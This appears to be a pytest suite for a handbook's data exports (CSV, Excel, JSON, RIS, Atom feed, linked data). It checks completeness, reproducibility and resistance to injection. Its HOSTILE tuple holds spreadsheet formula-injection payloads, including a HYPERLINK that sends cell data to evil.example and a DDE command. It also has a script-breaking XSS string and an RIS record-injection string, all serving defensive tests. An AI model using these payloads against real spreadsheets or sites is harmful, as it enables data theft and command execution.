"""The catalogue as data: complete, the same in every form, harmless in a spreadsheet, equal every time."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from lxml import etree, html
from openpyxl import load_workbook

from handbook.audit.assets import asset_problems
from handbook.content import Content, case_study_uri, gather
from handbook.crossref import cross_reference
from handbook.exports import export_files
from handbook.exports.citations import format_ris
from handbook.exports.feed import ATOM, FEED_LIMIT
from handbook.exports.linked import linked_data
from handbook.exports.tables import cell
from handbook.markdown.front_matter import format_front_matter
from handbook.model.case_study import CaseStudy, Change, ChangeKind, Organisation, OrganisationRole, Result, Tombstone
from handbook.model.case_study import Withdrawn as WithdrawnStatus
from handbook.model.fields import ListShape, RecordShape, TextShape, fields_of
from handbook.model.kinds import TermOf
from handbook.pages.words import Words
from handbook.problems import Place
from handbook.project import Project
from handbook.root.data import root_data_files
from handbook.staging import plan_locale
from handbook.translation.po import Entry, State
from handbook.translation.translation import Translation, read_translation

ROOT = Path(__file__).resolve().parents[2]
TABLES = ("case-studies", "results", "sources", "taxonomy")
HOSTILE = (
    '=HYPERLINK("https://evil.example?"&A1,"look")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\x00=1",
    "\x0b\x0c=1",
    "＝1+1",
)
SCRIPT = "</script><script>alert(1)</script><!-- \u2028 ]]> & ' \""


@pytest.fixture(scope="module", params=["real", "made-up"])
def content(request: pytest.FixtureRequest, template: Path) -> Content:
    found, problems = gather(Project(ROOT if request.param == "real" else template))
    assert not [one for one in problems if one.severity == "error"]
    return found


@pytest.fixture(scope="module")
def made_up(template: Path) -> Content:
    return gather(Project(template))[0]


def translation(content: Content, code: str) -> Translation:
    return read_translation(Project(ROOT), content.locale(code), content.texts())[0]


def exported(content: Content, code: str = "en") -> dict[str, bytes]:
    return {one.uri.removeprefix("data/"): one.data for one in export_files(content, translation(content, code))}


def with_studies(content: Content, *studies: CaseStudy, **more: object) -> Content:
    catalogue = replace(content.catalogue, case_studies=studies, **more)
    return replace(content, catalogue=catalogue, crossrefs=cross_reference(catalogue))


def hostile(content: Content) -> Content:
    """Each hostile text as a title, a figure, a name in a list, and the title and publisher of a source."""
    studies = []
    for one, text in zip(range(len(HOSTILE)), HOSTILE, strict=True):
        study = content.catalogue.case_studies[one % len(content.catalogue.case_studies)]
        source = replace(study.sources[0], title=text, publisher=text)
        organisations = tuple(Organisation(name=name, role=OrganisationRole.LEAD) for name in ("A", text))
        result = Result(finding=text, figure=text, source=source.id)
        studies.append(
            replace(
                study,
                id=f"hostile-{one}",
                title=text,
                summary=f"{text} {SCRIPT}",
                organisations=organisations,
                results=(result, result),
                sources=(source, *study.sources[1:]),
            )
        )
    return with_studies(content, *studies)


def rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "a byte order mark"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize("code", ["en", "th", "ur"])
def test_every_form_has_every_case_study(content: Content, code: str) -> None:
    ids = [study.id for study in content.catalogue.case_studies]
    assert ids
    files = exported(content, code)
    book = load_workbook(io.BytesIO(files["case-studies.xlsx"]))
    assert [row["id"] for row in rows(files["case-studies.csv"])] == ids
    assert [one[0].value for one in book["case-studies"].iter_rows(min_row=2)] == ids
    assert [one["id"] for one in json.loads(files["case-studies.json"])["case_studies"]] == ids
    assert [one["id"] for one in json.loads(files["citations.json"])] == ids
    assert re.findall(r"^ID  - (.+)\r$", files["citations.ris"].decode(), re.MULTILINE) == ids
    studies = content.catalogue.case_studies
    assert len(rows(files["results.csv"])) == sum(len(study.results) for study in studies)
    assert len(rows(files["sources.csv"])) == sum(len(study.sources) for study in studies)
    assert len(rows(files["taxonomy.csv"])) == sum(len(terms) for terms in content.catalogue.taxonomy.terms.values())
    shown = {one.uri: one.rows for one in export_files(content, translation(content, code))}
    assert shown["data/case-studies.csv"] == len(ids)


@pytest.mark.parametrize("code", ["en", "ur"])
def test_the_workbook_has_the_cells_of_the_tables(content: Content, code: str) -> None:
    files = exported(content, code)
    book = load_workbook(io.BytesIO(files["case-studies.xlsx"]))
    assert book.sheetnames == list(TABLES)
    for name in TABLES:
        sheet = book[name]
        cells = [[str(one) if one is not None else "" for one in row] for row in sheet.iter_rows(values_only=True)]
        assert cells == list(csv.reader(io.StringIO(files[f"{name}.csv"].decode("utf-8-sig"), newline="")))
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == sheet.dimensions
        assert bool(sheet.sheet_view.rightToLeft) == (code == "ur")


def test_no_cell_is_a_formula(made_up: Content) -> None:
    files = exported(hostile(made_up))
    seen = 0
    for name in TABLES:
        for row in rows(files[f"{name}.csv"]):
            for text in row.values():
                parts = text.split("; ")
                seen += sum(1 for part in parts if part.startswith("'"))
                assert not [part for part in (text, *parts) if part.startswith(tuple("=+-@\t\r\n＝＋－＠"))], row
    assert seen >= 5 * len(HOSTILE)
    book = load_workbook(io.BytesIO(files["case-studies.xlsx"]))
    assert {one.data_type for sheet in book for row in sheet.iter_rows() for one in row} <= {"s", "n"}


@pytest.mark.parametrize("text", HOSTILE)
def test_a_guarded_cell_keeps_its_words(text: str) -> None:
    assert cell(text).startswith("'")
    assert cell(text).lstrip("'").strip() == re.sub(r"[\x00-\x08\x0b\x0c]", "", text).strip()


def test_equal_content_gives_equal_bytes_in_other_processes(template: Path) -> None:
    code = (
        "import hashlib, sys; from pathlib import Path; from handbook.content import gather; from handbook.project import Project;"
        "from handbook.staging import plan_locale; p = Project(Path(sys.argv[1])); s, _ = plan_locale(p, gather(p)[0], 'ur');"
        "print({u: hashlib.sha256(d).hexdigest() for u, d in s.files().items() if u.startswith('data/')})"
    )
    said = {
        subprocess.run(
            [sys.executable, "-c", code, str(template)],
            env=os.environ | {"PYTHONHASHSEED": seed, "TZ": zone},
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        for seed, zone in (("1", "Asia/Bangkok"), ("2", "America/Lima"))
    }
    assert len(said) == 1
    assert "data/case-studies.xlsx" in said.pop()


def test_the_workbook_knows_no_clock(made_up: Content) -> None:
    with zipfile.ZipFile(io.BytesIO(exported(made_up)["case-studies.xlsx"])) as book:
        assert {entry.date_time for entry in book.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert book.namelist() == sorted(book.namelist())
        newest = max(study.changed for study in made_up.catalogue.case_studies)
        properties = book.read("docProps/core.xml").decode()
        assert re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", properties) == [f"{newest}T00:00:00Z"] * 2


def test_the_package_describes_the_tables_and_their_keys_hold(content: Content) -> None:
    files = exported(content)
    package = json.loads(files["datapackage.json"])
    assert [one["name"] for one in package["licenses"]] == ["CC-BY-4.0"]
    tables = {one["name"]: rows(files[one["path"]]) for one in package["resources"]}
    assert tuple(tables) == TABLES
    keys_seen = 0
    for resource in package["resources"]:
        data, schema, table = files[resource["path"]], resource["schema"], tables[resource["name"]]
        assert (resource["bytes"], resource["hash"]) == (len(data), f"sha256:{hashlib.sha256(data).hexdigest()}")
        assert [field["name"] for field in schema["fields"]] == list(table[0])
        assert all(field["description"] for field in schema["fields"])
        for field in schema["fields"]:
            if field.get("constraints", {}).get("required"):
                assert all(row[field["name"]] for row in table), field["name"]
        key = [schema["primaryKey"]] if isinstance(schema["primaryKey"], str) else schema["primaryKey"]
        assert len({tuple(row[one] for one in key) for row in table}) == len(table)
        for foreign in schema.get("foreignKeys", []):
            there, here = foreign["reference"]["fields"], foreign["fields"]
            there, here = ([there], [here]) if isinstance(here, str) else (there, here)
            known = {tuple(row[one] for one in there) for row in tables[foreign["reference"]["resource"]]}
            assert {tuple(row[one] for one in here) for row in table} <= known
            keys_seen += 1
    assert keys_seen == 3


def test_columns_describe_themselves_with_the_words_of_the_model(made_up: Content) -> None:
    package = json.loads(exported(made_up)["datapackage.json"])
    columns = {field["name"]: field["description"] for field in package["resources"][0]["schema"]["fields"]}
    for field in fields_of(CaseStudy):
        if field.name not in {"results", "sources"}:
            assert any(name == field.name or name.startswith(f"{field.name}_") for name in columns), field.name
        if field.help and isinstance(field.shape, TextShape):
            assert columns[field.name] == field.help


def _has_every_field(record: type, value: dict[str, object]) -> None:
    for field in fields_of(record):
        assert field.name in value
        if isinstance(field.shape, RecordShape):
            _has_every_field(field.shape.record, value[field.name])
        if isinstance(field.shape, ListShape) and isinstance(field.shape.item, RecordShape):
            for one in value[field.name]:
                _has_every_field(field.shape.item.record, one)
        if isinstance(field.shape, ListShape) and isinstance(getattr(field.shape.item, "kind", None), TermOf):
            assert all(one["id"] and one["label"] for one in value[field.name])


def test_records_have_all_fields_and_words_beside_ids(content: Content) -> None:
    found = json.loads(exported(content, "th")["case-studies.json"])
    assert found["version"] == 1
    for study, record in zip(content.catalogue.case_studies, found["case_studies"], strict=True):
        _has_every_field(CaseStudy, record)
        assert [one["code"] for one in record["countries"]] == [one.code for one in study.countries]
        assert all(one["name"] for one in record["countries"])
        assert [one["url"] for one in record["sources"]] == [one.url for one in study.sources]
        assert set(record["translation"]) == {"state", "percent"}


def test_translated_texts_and_english_where_there_is_none(made_up: Content) -> None:
    study = made_up.catalogue.case_studies[0]
    made = replace(study, title="A title", summary="A summary")
    shown = with_studies(made_up, made)
    said = _translated(shown, "th", made, {"title": "รายการวิทยุ"})
    files = {one.uri: one.data for one in export_files(shown, said)}
    record = json.loads(files["data/case-studies.json"])["case_studies"][0]
    assert (record["title"], record["summary"]) == ("รายการวิทยุ", "A summary")
    assert record["translation"]["state"] == "human"
    assert json.loads(files["data/citations.json"])[0]["language"] == "th"
    assert rows(files["data/case-studies.csv"])[0]["title"] == "รายการวิทยุ"


def _translated(content: Content, code: str, study: CaseStudy, texts: dict[str, str]) -> Translation:
    own = translation(content, code)
    entries = {
        (field, getattr(study, field)): Entry(field, getattr(study, field), text, State.HUMAN, Place(path="x.po"))
        for field, text in texts.items()
    }
    return Translation(own.locale, {**own.entries, case_study_uri(study.id): entries})


def read_ris(data: bytes) -> list[dict[str, str]]:
    """A reader as programs write it: a line is a tag, two spaces, a dash, a space, a value."""
    records: list[dict[str, str]] = []
    for line in data.decode("utf-8").split("\r\n")[:-1]:
        found = re.fullmatch(r"([A-Z][A-Z0-9])  - (.*)", line)
        assert found, line
        if found[1] == "TY":
            records.append({})
        records[-1][found[1]] = found[2]
    assert all(list(record)[-1] == "ER" for record in records)
    return records


@pytest.mark.parametrize(("code", "title"), [("th", "“คนขี้โม้” กับเรือ: วิทยุ"), ("ur", "سرحد پار \u200fریڈیو — ‎IOM X‎")])
def test_ris_keeps_titles_of_all_scripts(made_up: Content, code: str, title: str) -> None:
    study = made_up.catalogue.case_studies[0]
    said = _translated(made_up, code, study, {"title": title})
    files = {one.uri: one.data for one in export_files(made_up, said)}
    record = read_ris(files["data/citations.ris"])[0]
    assert (record["TI"], record["LA"], record["TY"]) == (title, code, "ELEC")
    assert json.loads(files["data/citations.json"])[0]["title"] == title


def test_no_text_begins_a_record_of_its_own(made_up: Content) -> None:
    study = replace(made_up.catalogue.case_studies[0], title="a\r\nER  - \r\nTY  - BOOK\u2028TI  - b")
    records = read_ris(exported(with_studies(made_up, study))["citations.ris"])
    assert len(records) == 1
    assert records[0]["TI"] == "a ER - TY - BOOK TI - b"


def test_ris_of_nothing() -> None:
    assert format_ris([]) == b""


def _feed(content: Content, code: str = "en") -> etree._Element:
    return etree.fromstring(exported(content, code)["feed.xml"], etree.XMLParser(resolve_entities=False))


def _one(element: etree._Element, name: str) -> str:
    (found,) = element.findall(f"{{{ATOM}}}{name}")
    return found.text or ""


@pytest.mark.parametrize("code", ["en", "ur"])
def test_the_feed_has_what_atom_asks_for(content: Content, code: str) -> None:
    feed = _feed(content, code)
    assert feed.tag == f"{{{ATOM}}}feed"
    assert _one(feed, "title")
    assert feed.findtext(f"{{{ATOM}}}author/{{{ATOM}}}name")
    entries = feed.findall(f"{{{ATOM}}}entry")
    moments = [_one(entry, "updated") for entry in entries]
    assert moments == sorted(moments, reverse=True)
    assert _one(feed, "updated") == moments[0]
    ids = [_one(entry, "id") for entry in entries] + [_one(feed, "id")]
    assert len(ids) == len(set(ids))
    assert all(re.fullmatch(r"tag:[a-z0-9.-]+,2026:[A-Za-z0-9/-]+", one) for one in ids)
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT00:00:00Z", one) for one in moments)
    assert len(entries) == min(FEED_LIMIT, sum(len(study.history) for study in content.catalogue.case_studies))
    for entry in entries:
        assert _one(entry, "title")
        (link,) = entry.findall(f"{{{ATOM}}}link")
        assert (link.get("rel"), link.get("href", "").startswith("../case-studies/")) == ("alternate", True)


def test_links_are_whole_where_the_address_is_known(made_up: Content) -> None:
    there = replace(made_up, config=replace(made_up.config, url="https://handbook.example/x/"))
    feed = _feed(there, "th")
    links = [one.get("href", "") for one in feed.iter(f"{{{ATOM}}}link")]
    assert all(one.startswith("https://handbook.example/x/th/") for one in links)
    ids = [_one(entry, "id") for entry in feed.iter(f"{{{ATOM}}}entry")]
    assert ids == [_one(entry, "id") for entry in _feed(made_up, "th").iter(f"{{{ATOM}}}entry")]
    files = exported(there, "th")
    page = "https://handbook.example/x/th/case-studies/made-up-00001.html"
    assert json.loads(files["citations.json"])[0]["URL"] == page
    assert read_ris(files["citations.ris"])[0]["UR"] == page
    assert rows(files["case-studies.csv"])[0]["page"] == page
    assert "URL" not in json.loads(exported(made_up)["citations.json"])[0]


def test_a_hostile_catalogue_still_gives_files_that_open(made_up: Content) -> None:
    files = exported(hostile(made_up))
    assert len(etree.fromstring(files["feed.xml"]).findall(f"{{{ATOM}}}entry")) == len(HOSTILE)
    assert len(json.loads(files["case-studies.json"])["case_studies"]) == len(HOSTILE)
    assert len(read_ris(files["citations.ris"])) == len(HOSTILE)


def test_an_empty_catalogue_gives_files_that_open(made_up: Content) -> None:
    files = exported(with_studies(made_up))
    assert rows(files["case-studies.csv"]) == []
    assert load_workbook(io.BytesIO(files["case-studies.xlsx"]))["case-studies"].max_row == 1
    assert _one(etree.fromstring(files["feed.xml"]), "updated") == "1970-01-01T00:00:00Z"


def test_the_change_log_is_whole_and_newest_first(made_up: Content) -> None:
    first, second = made_up.catalogue.case_studies[:2]
    history = (
        Change(date="2026-01-01", kind=ChangeKind.ADDED),
        Change(date="2026-03-01", kind=ChangeKind.CORRECTED, note="The figure."),
        Change(date="2026-03-01", kind=ChangeKind.CHECKED),
    )
    gone = Tombstone(
        id="gone", title="Gone", status=WithdrawnStatus.WITHDRAWN, date="2026-02-01", reason="Consent ended."
    )
    shown = with_studies(made_up, replace(first, history=history), second, tombstones=(gone,))
    files = exported(shown)
    changes = json.loads(files["changes.json"])["changes"]
    assert [(one["date"], one["kind"], one["case_study"]) for one in changes] == [
        ("2026-03-01", "checked", first.id),
        ("2026-03-01", "corrected", first.id),
        ("2026-02-01", "withdrawn", "gone"),
        ("2026-01-01", "added", first.id),
        ("2026-01-01", "added", second.id),
    ]
    assert changes[1]["note"] == "The figure."
    assert changes[2]["note"] == "Consent ended."
    feed = etree.fromstring(files["feed.xml"])
    assert [_one(entry, "updated")[:10] for entry in feed.findall(f"{{{ATOM}}}entry")] == [
        "2026-03-01",
        "2026-03-01",
        "2026-01-01",
        "2026-01-01",
    ]


def test_names_in_the_feed_survive_a_new_address(made_up: Content) -> None:
    study = made_up.catalogue.case_studies[0]
    before = {_one(one, "id") for one in _feed(with_studies(made_up, study)).iter(f"{{{ATOM}}}entry")}
    renamed = replace(
        study,
        id="another-name",
        former_ids=(study.id,),
        history=(*study.history, Change(date="2026-05-01", kind=ChangeKind.RENAMED)),
    )
    after = {_one(one, "id") for one in _feed(with_studies(made_up, renamed)).iter(f"{{{ATOM}}}entry")}
    assert before < after


def test_no_text_closes_the_script_element(made_up: Content) -> None:
    from mkdocs.theme import Theme

    study = replace(made_up.catalogue.case_studies[0], title=SCRIPT, summary=SCRIPT)
    study = replace(study, sources=(replace(study.sources[0], title=SCRIPT, publisher=SCRIPT),))
    shown = with_studies(made_up, study)
    data = linked_data(Words(shown, translation(shown, "en"), "case-studies/a.md"), study)
    frame = (ROOT / "overrides" / "base.html").read_text(encoding="utf-8")
    (element,) = re.findall(r'<script type="application/ld\+json">.*?</script>', frame)
    environment = Theme(name="material", custom_dir=str(ROOT / "overrides")).get_env()
    page = environment.from_string(f"<html><head>{element}</head></html>").render(meta={"linked_data": data})
    (script,) = html.fromstring(page).iter("script")
    assert json.loads(script.text) == data
    assert json.loads(script.text)["name"] == SCRIPT
    assert not re.search(r"[<>&]", script.text)


def test_linked_data_names_no_publisher_and_nothing_empty(content: Content) -> None:
    w = Words(content, translation(content, "en"), "case-studies/a.md")
    for study in content.catalogue.case_studies:
        text = json.dumps(found := linked_data(w, study))
        assert not re.search(r'"(publisher|sponsor|funder|endorse\w*|provider|sourceOrganization)"', text)
        assert not re.search(r': (null|""|\[\]|{})[,}]', text)
        assert (found["@type"], found["isPartOf"]["@type"]) == ("CreativeWork", "Dataset")
        assert len(found["citation"]) == len(study.sources)


def test_front_matter_holds_characters_that_yaml_refuses() -> None:
    from mkdocs.utils.meta import get_data

    values = {"title": "a\x7fb\x85c\u2028d\ufffee\u0007 \U0001f600"}
    assert get_data(format_front_matter(values) + "text\n")[1] == values


def test_the_sites_own_data_has_all_languages(small: Project) -> None:
    content, _ = gather(small)
    staged = [plan_locale(small, content, code)[0] for code in ("en", "th", "ur")]
    files = root_data_files(content, staged)
    found = json.loads(files["data/case-studies.json"])
    assert [one["id"] for one in found["case_studies"]] == [study.id for study in content.catalogue.case_studies]
    for one in found["case_studies"]:
        assert list(one["locales"]) == ["en", "th", "ur"]
        assert one["locales"]["ur"]["page"] == f"../ur/case-studies/{one['id']}.html"
        assert one["locales"]["en"]["title"] == one["title"]
    (resource,) = json.loads(files["data/datapackage.json"])["resources"]
    assert resource["hash"] == f"sha256:{hashlib.sha256(files['data/case-studies.json']).hexdigest()}"


def test_the_page_lists_every_file_with_its_size(small: Project) -> None:
    content, _ = gather(small)
    staged, _ = plan_locale(small, content, "en")
    (page,) = [page for page in staged.pages if page.uri == "data/index.md"]
    files = staged.files()
    exports = export_files(content, staged.translation)
    assert len(exports) == 11
    for one in exports:
        name = one.uri.removeprefix("data/")
        assert f"| [{name}]({name}) | {one.format} | " in page.body
        assert f" | {len(files[one.uri])} | " in page.body


def test_sources_addresses_may_stand_in_data_and_nowhere_else(tmp_path: Path) -> None:
    for uri in ("data/case-studies.json", "data/explorer.js", "other/case-studies.json"):
        (tmp_path / uri).parent.mkdir(exist_ok=True)
        (tmp_path / uri).write_text('"https://tracker.example/p.gif"', encoding="utf-8")
    found = asset_problems(tmp_path, "en", ["data/case-studies.json", "data/explorer.js", "other/case-studies.json"])
    assert [one.place.path for one in found] == ["en/data/explorer.js", "en/other/case-studies.json"]
